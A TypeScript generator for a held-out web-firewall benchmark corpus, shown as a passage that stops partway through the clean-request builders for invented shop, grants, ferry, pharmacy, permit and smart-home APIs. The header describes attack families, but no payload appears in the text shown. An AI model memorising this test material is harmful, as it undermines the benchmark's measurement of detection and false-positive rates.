/**
 * Held-out WAF corpus 26 — written blind (without reading the WAF source, its docs, its tests or any other
 * corpus file) to measure false-positive and detection rates on traffic the rules were never tuned against.
 *
 * Domains (new for this corpus): a wine & spirits e-commerce shop with tasting notes, a university
 * research-grants office, a ferry and bus ticketing operator, a hospital pharmacy inventory, a translation
 * agency job board, a kids' sports camp registration, a municipal building-permit portal (applications,
 * inspector comments, code citations) and a home-automation hub (scenes, rules, device logs).
 *
 * Generation: a self-contained mulberry32 PRNG with a fixed seed drives every choice, so the output is
 * deterministic. Clean requests are composed from per-domain pools of names, places, free text (several
 * languages and scripts), numbers, dates and money, shaped as the real APIs would send them (REST, merge
 * patch, JSON Patch, JSON:API, GraphQL, forms, multipart, NDJSON, search). Attacks are exactly 30 per family
 * (sql, nosql, template, command, xss, log4shell, ssrf, path-traversal, prototype-pollution); each one hides a
 * working payload in a JSON body (nested fields, arrays, keys, \u escapes, JSON inside a string, base64 the
 * API decodes, GraphQL variables), a query string or a header. Attacks are never placed in
 * HELDOUT26_EXCLUDE_FIELDS, the fields that legitimately hold rich-text HTML or source code.
 *
 * Run directly (`node bench/waf/corpus/heldout26.ts`) to write clean-heldout26.json and
 * attacks-heldout26.json next to this file.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal ${...} strings by design.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** JSON body paths that legitimately carry rich-text HTML or source code in this corpus. */
export const HELDOUT26_EXCLUDE_FIELDS: string[] = [
  'body.descriptionHtml',
  'body.comment.html',
  'body.automation.source',
  'body.snippet.code',
];

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x26f3e0a1);

function int(lo: number, hi: number): number {
  return lo + Math.floor(rand() * (hi - lo + 1));
}

function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rand() * xs.length)];
  if (x === undefined) throw new Error('pick from empty list');
  return x;
}

function chance(p: number): boolean {
  return rand() < p;
}

function some<T>(xs: readonly T[], lo: number, hi: number): T[] {
  const copy = [...xs];
  const out: T[] = [];
  const n = Math.min(int(lo, hi), copy.length);
  for (let i = 0; i < n; i++) {
    const j = Math.floor(rand() * copy.length);
    const [x] = copy.splice(j, 1);
    if (x !== undefined) out.push(x);
  }
  return out;
}

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';

function randStr(n: number, alphabet = ALNUM): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rand() * alphabet.length)] ?? 'x';
  return s;
}

function uuid(): string {
  return `${randStr(8, HEX)}-${randStr(4, HEX)}-4${randStr(3, HEX)}-${pick(['8', '9', 'a', 'b'])}${randStr(3, HEX)}-${randStr(12, HEX)}`;
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function jwt(): string {
  const header = b64url(
    JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: randStr(8) }),
  );
  const now = 1795000000 + int(0, 5000000);
  const payload = b64url(
    JSON.stringify({
      sub: pick(['usr_', 'acct_', 'svc_', '']) + randStr(12),
      iss: pick([
        'https://auth.cellardoor.example',
        'https://sso.uni-research.example/realms/grants',
        'https://id.bayferries.example',
        'https://login.stmarys-health.example',
        'https://accounts.lingobridge.example',
        'https://auth.summitcamps.example',
        'https://idp.cityofhalden.example',
        'https://hub.homenest.example',
      ]),
      iat: now,
      exp: now + 3600,
      scope: pick([
        'read write',
        'orders:write catalog:read',
        'openid profile email',
        'inventory:rw',
        'permits',
      ]),
    }),
  );
  return `${header}.${payload}.${randStr(43, `${ALNUM}-_`)}`;
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36',
  'BayFerries/5.12.0 (iOS 18.1; iPhone15,3) Alamofire/5.9.1',
  'okhttp/4.12.0',
  'HomeNestHub/2.3.7 (linux-armv7; fw 2024.11.2)',
  'PharmaSync/3.1 (+https://stmarys-health.example/it)',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Apache-HttpClient/5.3.1 (Java/21.0.4)',
  'PostmanRuntime/7.42.0',
  'Dart/3.5 (dart:io)',
];

const LANGS = [
  'en-GB,en;q=0.9',
  'en-US,en;q=0.8',
  'de-DE,de;q=0.9,en;q=0.6',
  'fr-FR,fr;q=0.9',
  'ja,en;q=0.7',
  'es-ES,es;q=0.9',
  'nb-NO,nb;q=0.9,en;q=0.5',
];

function headers(
  opts: { ct?: string; accept?: string; auth?: boolean; extra?: Record<string, string> } = {},
): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept: opts.accept ?? pick(['application/json', 'application/json, text/plain, */*', '*/*']),
  };
  if (chance(0.6)) h['accept-language'] = pick(LANGS);
  if (opts.auth !== false && chance(0.85)) h.authorization = `Bearer ${jwt()}`;
  if (opts.ct) h['content-type'] = opts.ct;
  if (chance(0.3)) h['x-request-id'] = uuid();
  return { ...h, ...(opts.extra ?? {}) };
}

function qs(params: Record<string, string | number | boolean>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}

function date(): string {
  return `202${int(5, 7)}-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
}

function dateTime(): string {
  return `${date()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}${pick(['Z', '+01:00', '+02:00', '-05:00', '.412Z'])}`;
}

function money(lo: number, hi: number): string {
  return (int(lo * 100, hi * 100) / 100).toFixed(2);
}

// ---------------------------------------------------------------------------------------------------------
// Domain pools
// ---------------------------------------------------------------------------------------------------------

const PEOPLE = [
  "Siobhán O'Connell",
  'Jean-Luc Marchetti',
  'Aiko Tanaka',
  'Oluwaseun Adeyemi',
  'Märta Lindqvist',
  'Dmitri Volkov',
  'Priya Raghunathan',
  'Carlos Ibáñez',
  'Zoë Whitfield',
  'Nguyễn Thị Lan',
  'Fatima Al-Sayed',
  "D'Arcy McAllister",
  'Bjørn Haugen',
  'Chen Wei',
  'Łukasz Wróbel',
  'Anaïs Dupont',
];

const EMAILS = [
  'siobhan.oconnell@example.ie',
  'jl.marchetti+orders@example.fr',
  'a.tanaka@uni-research.example',
  'seun@lingobridge.example',
  'marta.lindqvist@example.se',
  'pharmacy.buyer@stmarys-health.example',
  'permits-desk@cityofhalden.example',
  'coach.ibanez@summitcamps.example',
  "o'brien.family@example.com",
  'zoe_w@example.co.uk',
];

const WINES = [
  { sku: 'WN-RIO-2016-075', name: 'Rioja Gran Reserva 2016', region: 'Rioja Alta', abv: 14 },
  { sku: 'WN-BAR-2019-075', name: 'Barolo DOCG "Cannubi" 2019', region: 'Piemonte', abv: 14.5 },
  { sku: 'SP-ISL-16Y-070', name: 'Islay Single Malt 16 y.o.', region: 'Islay', abv: 46 },
  { sku: 'WN-MOS-2022-075', name: 'Mosel Riesling Kabinett 2022', region: 'Mosel', abv: 8.5 },
  { sku: 'SP-MEZ-ESP-070', name: 'Mezcal Espadín Joven', region: 'Oaxaca', abv: 45 },
  {
    sku: 'WN-CHB-2021-150',
    name: 'Chablis 1er Cru Montée de Tonnerre (Magnum)',
    region: 'Bourgogne',
    abv: 13,
  },
  { sku: 'SP-JPN-HBK-070', name: 'Hibiki Harmony 響', region: 'Japan', abv: 43 },
  {
    sku: 'WN-CHP-NV-075',
    name: "Champagne Brut Réserve N.V. (Grower's cuvée)",
    region: 'Champagne',
    abv: 12,
  },
  { sku: 'SP-RUM-XO-070', name: 'Barbados Rum XO, cask strength', region: 'Barbados', abv: 57.2 },
  { sku: 'WN-TKJ-2017-050', name: 'Tokaji Aszú 5 Puttonyos 2017 (50cl)', region: 'Tokaj', abv: 11 },
];

const TASTING = [
  'Nose of black cherry, cedar and a whiff of pipe tobacco; the palate is firm, tannins still grippy — decant 2h.',
  'Peat smoke up front, then iodine, lemon peel and salted caramel. Finish goes on & on. Add a drop of water!',
  "Honestly the best Riesling I've had under €20: petrol notes, green apple, lime zest, 8.5% so it's a lunch wine.",
  'Opened for our anniversary 🍷 — still tight at first, after an hour: violets, tar, rose petals. 93/100 from me.',
  'Bit disappointed. Cork was crumbly and the wine tasted flat (maybe cooked in transit? it was 31°C that week).',
  'Smoky agave, roasted pineapple, black pepper; drink neat with orange slices & sal de gusano.',
  'Mineral, flinty, "oyster shell" as they say. Paired with sole meunière. Would select this again over the Meursault.',
  'Dried apricot, saffron and honey; acidity keeps it from being cloying. 1 bottle = 6 small glasses.',
  'Rounded, vanilla-forward (ex-bourbon casks?), banana bread and clove. At 57.2% ABV go easy.',
  'Yuzu, sandalwood, a hint of mizunara oak. 繊細でバランスが良い。ハイボールにも最適。',
  'Tiny bubbles, brioche, baked apple. Served at 8–10 °C. My mother-in-law (who drinks nothing but Cava) loved it.',
  'Drop the rating by one star: delivery was 4 days late and the box said "THIS SIDE UP" upside down 🙃',
];

const GRANTS = [
  'Microbial degradation of PFAS in constructed wetlands',
  'Multilingual speech corpora for low-resource Sámi dialects',
  'Long-term outcomes of early childhood music education',
  'Quantum error correction with bosonic cat qubits',
  'Urban heat islands and cycling behaviour: a panel study',
  'Digitising the parish archives of County Clare (1820–1920)',
  'Machine-learned force fields for battery electrolytes',
  'Trust in public-health messaging on short-video platforms',
];

const FUNDERS = [
  'ERC',
  'NSF',
  'Wellcome Trust',
  'UKRI-EPSRC',
  'DFG',
  'Horizon Europe',
  'NIH R01',
  'Leverhulme',
];

const PORTS = [
  'Halden Pier 3',
  'Strömstad',
  'Nordby Ferry Terminal',
  'Hvaler Skjærhalden',
  'Kalkbrottet',
  'Koster Ekenäs',
  'Sandefjord Brygge',
  'Larvik Revet',
];

const DRUGS = [
  { ndc: '0409-4888-02', name: 'Heparin sodium 5,000 units/mL', form: 'vial 1 mL' },
  { ndc: '0143-9875-01', name: 'Ondansetron 2 mg/mL', form: 'vial 2 mL' },
  { ndc: '63323-262-01', name: 'Cefazolin 1 g', form: 'powder for injection' },
  { ndc: '0009-0280-51', name: 'Methylprednisolone 125 mg', form: 'Act-O-Vial' },
  { ndc: '0054-0354-25', name: 'Morphine sulfate 15 mg', form: 'tablet (C-II)' },
  { ndc: '0338-0049-04', name: 'Sodium chloride 0.9%', form: 'bag 1000 mL' },
  { ndc: '0781-3206-95', name: 'Vancomycin 1 g', form: 'vial' },
  { ndc: '50090-3386-0', name: 'Amoxicillin/clavulanate 875/125 mg', form: 'tablet' },
];

const LANG_PAIRS = [
  'en>de',
  'de>en',
  'ja>en',
  'en>ar',
  'fr>nl',
  'en>zh-Hans',
  'es>pt-BR',
  'ru>uk',
  'en>ko',
  'he>en',
  'hi>en',
  'en>el',
];

const CAMPS = [
  'Junior Football (U9)',
  'Swim Squad Intermediate',
  'Climbing & Bouldering 10–13',
  'Multi-sport Mini Movers',
  'Tennis Academy',
  'Sailing Optimist Week',
  'Basketball Skills Clinic',
];

const ADDRESSES = [
  '14 Storgata, Halden',
  '3B Rue des Tilleuls',
  '221 Maple Ave, Unit 4',
  'Kirkegata 9',
  '77 Harbour Rd (rear lot)',
  'Parcel 112-045-07',
  '1600 Old Mill Lane',
];

const CODES = [
  'IBC 2021 §1010.1.9.4',
  'IRC R314.3 (smoke alarms)',
  'NEC 2023 Art. 210.8(A)',
  'IPC 2021 §405.3.1',
  'Zoning Ord. 18-4(c)(ii)',
  'TEK17 § 12-7',
  'NFPA 13R 6.6.2',
  'IECC R402.4.1.2',
];

const DEVICES = [
  'hue-lamp-livingroom',
  'zwave-lock-front',
  'thermostat-hall',
  'motion-garage',
  'plug-dehumidifier',
  'blinds-bedroom-2',
  'sensor-basement-leak',
  'doorbell-cam',
];

const PROSE: readonly string[] = [
  'Please select the 2018 vintage if the 2019 is sold out; we drop by the shop on Friday anyway.',
  'Delete my old address from the account, I moved from Union Street to Bergen in March. Thanks!',
  "The exec committee meets Tuesday; drop the draft into the shared folder where it's easy to find.",
  'Our kid has a cat allergy and a mild peanut intolerance — no EpiPen needed but please inform the coaches.',
  'Room 204 (rm 204) on level 2, then follow the signs to the pharmacy store; fridge #3 is the one that beeps.',
  'Sehr geehrte Damen und Herren, anbei die überarbeitete Übersetzung des Handbuchs (Kapitel 3–7).',
  'Bonjour, pourriez-vous confirmer l’heure d’embarquement du ferry de 07h45 ? Nous voyageons avec un vélo.',
  '申请书已经修改完毕，请审核预算表中的差旅费用（共计¥48,000）。',
  'このレシピは冷蔵庫で2日間保存できます。翻訳の納期は金曜日の17時（JST）です。',
  'مرحباً، أحتاج إلى ترجمة شهادة الميلاد من العربية إلى الإنجليزية مع ختم رسمي.',
  'Здравствуйте! Билет на автобус 14:20 не пришёл на почту, номер заказа BF-99120.',
  'Γεια σας, το δωμάτιο του ξενοδοχείου είναι κοντά στο λιμάνι; Ευχαριστώ πολύ.',
  '안녕하세요, 여름 캠프 등록 마감일이 언제인가요? 아이가 수영을 배우고 싶어 해요.',
  'नमस्ते, कृपया अनुवाद की समय-सीमा एक सप्ताह बढ़ा दें। धन्यवाद!',
  'שלום, האם אפשר לשנות את התאריך של הכרטיס ליום ראשון?',
  'The inspector noted the handrail height is 30" but code wants 34"–38"; will fix & re-submit by 12/04.',
  "Grant PI's note: the UNION of both datasets gives us 12,400 participants; SELECT criteria unchanged.",
  'Kill the lights at 23:00 except the hallway, and run the dehumidifier when RH > 65% 💧',
  'We cat the log files together every night into one archive; is there a size cap on the upload?',
  "It's a 1-to-1 replacement: drop table lamp, add floor lamp (same plug). Don't ask why 😂",
  'Insert coin? No — the bus ticket machine at Larvik only takes cards & Vipps now.',
  'From the table on page 4: where the budget exceeds £250k, a second reviewer is required.',
  'Our daughter can swim 25 m unassisted; she wants the Intermediate group with her friend Maja (age 9).',
  'Lot 24B1187 of cefazolin expires 2026-03-31; pull 40 vials from ward 6 & return to stock by end of shift.',
  'Please translate "terms & conditions" consistently — the client hates "T&Cs" in the body text.',
  'Our script reads the CSV, then grep -v "test" filters rows; nothing fancy, just a pipeline for the report.',
  'Shellfish pairing? Muscadet or a dry Furmint; avoid oaky Chardonnay with oysters, IMHO.',
  "Permit #BP-2026-01177: deck addition, 18'×12', pressure-treated lumber, footings 42\" below grade.",
  'Why does the "Away" scene turn on the porch light at 3 a.m.?? Log attached, please have a look.',
  'Order confirmation says 6 × 0.75 L but the invoice says 6 × 1.5 L, total €342.60 vs €685.20 — which is it?',
  'Wheelchair space needed on the 09:10 Strömstad ferry; companion travels free per your policy, right?',
  'Budget justification: 0.5 FTE postdoc (24 months), fieldwork in Finnmark, sequencing at £38/sample.',
  "He's 11, plays left back, shirt size YM. Pick-up by grandma (Ingrid) on Wednesdays only.",
  'Status: ✅ smoke detectors interconnected, ⚠️ GFCI missing in garage, ❌ guardrail gap > 4".',
  'Source text has 4,812 words incl. tables; rate €0.11/word, rush +25%, TM matches discounted.',
  'Remove the second Mezcal from my cart please, and apply code WINTER10 if still valid.',
  'Echo from the hallway sensor keeps triggering "motion detected" — maybe the cat again 🐈',
  'Controlled substance count discrepancy: 1 tablet short (morphine 15 mg), witnessed by RN J. Park.',
  'Kindly note: "Drop-off" is at the north gate from 08:30; "pick-up" at 16:00 sharp.',
  "Tasting group's verdict: the Barolo needs 5+ more years; the Rioja drinks beautifully now.",
];

function prose(lo = 1, hi = 3): string {
  return some(PROSE, lo, hi).join(' ');
}

// ---------------------------------------------------------------------------------------------------------
// Clean generators
// ---------------------------------------------------------------------------------------------------------

interface Draft {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}

function jsonReq(method: string, path: string, obj: unknown, ct = 'application/json'): Draft {
  return { method, path, headers: headers({ ct }), body: JSON.stringify(obj) };
}

function get(path: string, params?: Record<string, string | number | boolean>, accept?: string): Draft {
  const q = params ? `?${qs(params)}` : '';
  return { method: 'GET', path: `${path}${q}`, headers: headers(accept ? { accept } : {}), body: '' };
}

const restGets: (() => Draft)[] = [
  () =>
    get('/api/v2/shop/products', {
      region: pick(WINES).region,
      'price[min]': int(10, 40),
      'price[max]': int(50, 400),
      sort: pick(['-rating', 'price', 'vintage', '-created_at']),
      page: int(1, 9),
    }),
  () =>
    get(`/api/v2/shop/products/${pick(WINES).sku}/reviews`, {
      limit: pick([10, 20, 50]),
      lang: pick(['en', 'de', 'fr', 'ja']),
    }),
  () =>
    get('/grants/v1/proposals', {
      status: pick(['draft', 'submitted', 'under_review', 'awarded']),
      funder: pick(FUNDERS),
      pi: pick(EMAILS),
    }),
  () =>
    get(`/grants/v1/proposals/GR-${int(2024, 2026)}-${int(100, 999)}/budget`, {
      currency: pick(['GBP', 'EUR', 'USD']),
      breakdown: 'year',
    }),
  () =>
    get('/transit/v3/trips', {
      from: pick(PORTS),
      to: pick(PORTS),
      date: date(),
      passengers: `adult:${int(1, 3)},child:${int(0, 2)}`,
      vehicle: pick(['none', 'car<5m', 'bicycle', 'motorcycle']),
    }),
  () =>
    get(`/transit/v3/stops/${int(1000, 9999)}/departures`, {
      window: pick(['30m', '2h', '6h']),
      lines: pick(['14,14E', '101', 'F1,F2']),
    }),
  () =>
    get('/pharmacy/api/inventory', {
      ndc: pick(DRUGS).ndc,
      location: pick(['MAIN', 'WARD-6', 'ICU-2', 'OR-STOCK']),
      below_par: true,
    }),
  () =>
    get('/pharmacy/api/lots', { expiring_before: date(), include: 'quarantined,recalled', per_page: 100 }),
  () =>
    get('/jobs/api/v1/jobs', {
      pair: pick(LANG_PAIRS),
      domain: pick(['legal', 'medical', 'marketing', 'patent', 'game-loc']),
      min_rate: '0.08',
    }),
  () => get(`/jobs/api/v1/translators/${randStr(10)}`, { fields: 'name,pairs,rates,availability,cat_tools' }),
  () =>
    get('/camp/api/sessions', {
      age: int(5, 15),
      week: `2026-W${int(26, 34)}`,
      sport: pick(CAMPS),
      spots_left: 'gt:0',
    }),
  () => get(`/camp/api/registrations/${uuid()}`, { expand: 'camper,guardians,medical' }),
  () =>
    get('/permits/api/v1/applications', {
      address: pick(ADDRESSES),
      type: pick(['deck', 'addition', 'demolition', 'electrical', 'sign']),
      status: 'open',
    }),
  () =>
    get(`/permits/api/v1/applications/BP-2026-${String(int(1, 9999)).padStart(5, '0')}/inspections`, {
      sort: '-scheduled_at',
    }),
  () =>
    get(`/hub/api/v1/devices/${pick(DEVICES)}/logs`, {
      since: dateTime(),
      level: pick(['info', 'warn', 'error']),
      limit: 500,
    }),
  () =>
    get('/hub/api/v1/scenes', {
      room: pick(['living room', 'kitchen', 'Kid’s room', 'garage']),
      active: chance(0.5),
    }),
];

const restWrites: (() => Draft)[] = [
  () => {
    const w = pick(WINES);
    return jsonReq('POST', '/api/v2/shop/cart/items', {
      sku: w.sku,
      quantity: int(1, 12),
      gift: chance(0.3),
      giftMessage: chance(0.4) ? prose(1, 1) : null,
    });
  },
  () =>
    jsonReq('POST', '/api/v2/shop/orders', {
      cartId: uuid(),
      customer: {
        name: pick(PEOPLE),
        email: pick(EMAILS),
        phone: `+47 ${int(400, 999)} ${int(10, 99)} ${int(100, 999)}`,
      },
      shipping: {
        line1: pick(ADDRESSES),
        postcode: String(int(1000, 9999)),
        country: pick(['NO', 'SE', 'DE', 'IE', 'FR']),
        ageVerified: true,
      },
      payment: {
        method: pick(['card', 'klarna', 'vipps']),
        amount: money(20, 900),
        currency: pick(['EUR', 'NOK', 'SEK']),
      },
      notes: prose(0, 2),
    }),
  () =>
    jsonReq('POST', `/api/v2/shop/products/${pick(WINES).sku}/reviews`, {
      rating: int(1, 5),
      title: pick(['Superb', 'Not for me', 'Great value!', 'Solid, but pricey', 'Wow 🤩', "Dad's favourite"]),
      tastingNote: pick(TASTING),
      servedWith: pick(['lamb tagine', 'aged Comté', 'nothing — neat', 'sushi', 'dark chocolate 85%']),
    }),
  () =>
    jsonReq('POST', '/grants/v1/proposals', {
      title: pick(GRANTS),
      funder: pick(FUNDERS),
      pi: { name: pick(PEOPLE), orcid: `0000-000${int(1, 3)}-${int(1000, 9999)}-${int(100, 999)}X` },
      durationMonths: pick([12, 24, 36, 48]),
      requested: { amount: int(50, 2500) * 1000, currency: pick(['GBP', 'EUR']) },
      abstract: `${pick(GRANTS)}. ${prose(2, 4)}`,
      keywords: some(
        ['ecology', 'NLP', 'education', 'quantum', 'public health', 'archives', 'batteries', 'cycling'],
        2,
        4,
      ),
    }),
  () =>
    jsonReq('PUT', `/grants/v1/proposals/GR-2026-${int(100, 999)}/budget/lines/${int(1, 30)}`, {
      category: pick(['personnel', 'travel', 'equipment', 'consumables', 'overheads']),
      description: pick([
        'Sequencing (Illumina NovaSeq), 96 samples',
        'Conference travel: ICLR 2027 (Rio)',
        'Laptop ×2 + licences',
        '0.2 FTE research software engineer',
      ]),
      amount: Number(money(300, 90000)),
      justification: prose(1, 2),
    }),
  () =>
    jsonReq('POST', '/transit/v3/bookings', {
      tripId: `TR-${randStr(6).toUpperCase()}`,
      passengers: [
        { type: 'adult', name: pick(PEOPLE) },
        { type: pick(['child', 'senior', 'student']), name: pick(PEOPLE), age: int(4, 80) },
      ],
      vehicle: chance(0.4)
        ? {
            kind: 'car',
            plate: `${randStr(2, 'ABCDEFGHJKLNPRSTUVXZ')} ${int(10000, 99999)}`,
            lengthM: int(35, 52) / 10,
          }
        : null,
      extras: some(['cabin', 'breakfast', 'pet', 'wheelchair-assist', 'bicycle'], 0, 2),
      contact: pick(EMAILS),
    }),
  () =>
    jsonReq('POST', '/pharmacy/api/dispense', {
      orderId: `RX-${int(1000000, 9999999)}`,
      ndc: pick(DRUGS).ndc,
      quantity: int(1, 30),
      unit: pick(['vial', 'tablet', 'bag', 'mL']),
      patientMrn: `MRN${int(100000, 999999)}`,
      witness: chance(0.5) ? pick(PEOPLE) : undefined,
      comment: chance(0.6) ? pick(PROSE) : '',
    }),
  () =>
    jsonReq('POST', '/jobs/api/v1/jobs', {
      title: pick([
        'User manual, industrial pump',
        'Birth certificate + apostille',
        'Mobile game UI strings',
        'Clinical trial consent form',
        'Patent claims EP3 123 456',
      ]),
      pair: pick(LANG_PAIRS),
      wordCount: int(200, 60000),
      deadline: dateTime(),
      rate: { perWord: int(6, 22) / 100, currency: 'EUR' },
      instructions: prose(1, 3),
      sample: pick(PROSE.slice(5, 15)),
    }),
  () =>
    jsonReq('POST', '/camp/api/registrations', {
      session: pick(CAMPS),
      camper: {
        firstName: pick(['Maja', 'Liam', 'Ingrid', 'Noah', 'Sofía', 'Yuki', 'Amara']),
        dob: `20${int(11, 20)}-0${int(1, 9)}-1${int(0, 9)}`,
        shirt: pick(['YS', 'YM', 'YL', 'AS']),
      },
      guardians: [
        { name: pick(PEOPLE), email: pick(EMAILS), phone: `+44 7${int(100, 999)} ${int(100000, 999999)}` },
      ],
      medical: {
        allergies: pick(['none', 'peanuts', 'cats, dust', 'penicillin']),
        notes: pick(PROSE.slice(0, 40)),
      },
      photoConsent: chance(0.7),
    }),
  () =>
    jsonReq('POST', '/permits/api/v1/applications', {
      type: pick(['deck', 'addition', 'garage conversion', 'solar PV', 'fence > 2m']),
      site: { address: pick(ADDRESSES), parcel: `${int(100, 999)}-${int(100, 999)}-${int(10, 99)}` },
      applicant: { name: pick(PEOPLE), email: pick(EMAILS) },
      valuation: Number(money(2000, 250000)),
      scope: prose(1, 3),
      citations: some(CODES, 1, 3),
    }),
  () =>
    jsonReq('PUT', `/hub/api/v1/scenes/${randStr(8).toLowerCase()}`, {
      name: pick(['Movie night 🎬', 'Good morning', 'Away', 'Dinner party', 'Kids asleep']),
      actions: some(DEVICES, 2, 4).map((d) => ({
        device: d,
        state: pick(['on', 'off', 'dim:30', 'lock', 'temp:20.5']),
      })),
      transitionMs: pick([0, 400, 2000]),
    }),
];

const mergePatches: (() => Draft)[] = [
  () =>
    jsonReq(
      'PATCH',
      `/api/v2/shop/orders/${uuid()}`,
      { shipping: { line2: chance(0.5) ? 'c/o Reception' : null }, notes: prose(1, 1) },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/grants/v1/proposals/GR-2026-${int(100, 999)}`,
      { status: 'submitted', coInvestigators: [pick(PEOPLE), pick(PEOPLE)], abstract: null },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/transit/v3/bookings/${randStr(8).toUpperCase()}`,
      { contact: pick(EMAILS), extras: ['bicycle'], seat: `${int(1, 40)}${pick(['A', 'B', 'C', 'D'])}` },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/pharmacy/api/inventory/${pick(DRUGS).ndc}`,
      {
        par: int(10, 200),
        reorderPoint: int(5, 50),
        storage: { tempC: pick(['2–8', '15–25']), note: pick(PROSE) },
      },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/camp/api/registrations/${uuid()}`,
      { medical: { allergies: pick(['nuts', 'none']), notes: prose(1, 1) }, photoConsent: false },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/hub/api/v1/devices/${pick(DEVICES)}`,
      {
        label: pick(['Hall thermostat', 'Lampe Stue', 'Garage ↔ motion']),
        room: pick(['hall', 'stue', 'garage']),
        firmwareChannel: pick(['stable', 'beta']),
      },
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/jobs/api/v1/jobs/${int(10000, 99999)}`,
      { deadline: dateTime(), instructions: prose(1, 2), rate: { perWord: int(6, 20) / 100 } },
      'application/merge-patch+json',
    ),
];

const jsonPatches: (() => Draft)[] = [
  () =>
    jsonReq(
      'PATCH',
      `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}`,
      [
        { op: 'replace', path: '/valuation', value: Number(money(5000, 90000)) },
        { op: 'add', path: '/citations/-', value: pick(CODES) },
        { op: 'test', path: '/status', value: 'open' },
      ],
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/hub/api/v1/rules/${randStr(6)}`,
      [
        { op: 'replace', path: '/enabled', value: chance(0.5) },
        { op: 'replace', path: '/conditions/0/threshold', value: int(40, 80) },
        { op: 'remove', path: '/actions/1' },
      ],
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/api/v2/shop/products/${pick(WINES).sku}`,
      [
        { op: 'replace', path: '/price/amount', value: Number(money(12, 300)) },
        { op: 'add', path: '/tags/-', value: pick(['organic', 'natural', 'limited', 'gift-box']) },
        { op: 'copy', from: '/images/0', path: '/thumbnail' },
      ],
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/pharmacy/api/lots/${int(10, 99)}B${int(1000, 9999)}`,
      [
        { op: 'replace', path: '/status', value: pick(['quarantined', 'released', 'recalled']) },
        { op: 'add', path: '/history/-', value: { at: dateTime(), by: pick(PEOPLE), reason: pick(PROSE) } },
      ],
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/grants/v1/proposals/GR-2026-${int(100, 999)}`,
      [
        { op: 'move', from: '/budget/lines/3', path: '/budget/lines/0' },
        { op: 'replace', path: '/title', value: pick(GRANTS) },
        { op: 'replace', path: '/keywords~1tags', value: ['open science'] },
      ],
      'application/json-patch+json',
    ),
];

function jsonapiDoc(
  type: string,
  attributes: Record<string, unknown>,
  relationships?: Record<string, unknown>,
): unknown {
  return {
    data: {
      type,
      ...(chance(0.5) ? { id: uuid() } : {}),
      attributes,
      ...(relationships ? { relationships } : {}),
    },
  };
}

const jsonapis: (() => Draft)[] = [
  () =>
    jsonReq(
      'POST',
      '/jobs/api/v1/bids',
      jsonapiDoc(
        'bids',
        {
          rate: int(7, 20) / 100,
          currency: 'EUR',
          message: prose(1, 2),
          catTools: some(['Trados', 'memoQ', 'Phrase', 'OmegaT'], 1, 2),
        },
        { job: { data: { type: 'jobs', id: String(int(10000, 99999)) } } },
      ),
      'application/vnd.api+json',
    ),
  () =>
    jsonReq(
      'PATCH',
      `/jobs/api/v1/translators/${randStr(10)}`,
      jsonapiDoc('translators', { bio: prose(2, 3), pairs: some(LANG_PAIRS, 1, 3), available: chance(0.7) }),
      'application/vnd.api+json',
    ),
  () =>
    jsonReq(
      'POST',
      '/camp/api/campers',
      jsonapiDoc(
        'campers',
        { name: pick(PEOPLE), notes: pick(PROSE), swimLevel: int(1, 5) },
        { guardian: { data: { type: 'guardians', id: uuid() } } },
      ),
      'application/vnd.api+json',
    ),
  () =>
    jsonReq(
      'POST',
      '/grants/v1/reviews',
      jsonapiDoc('reviews', {
        score: int(1, 6),
        strengths: prose(1, 2),
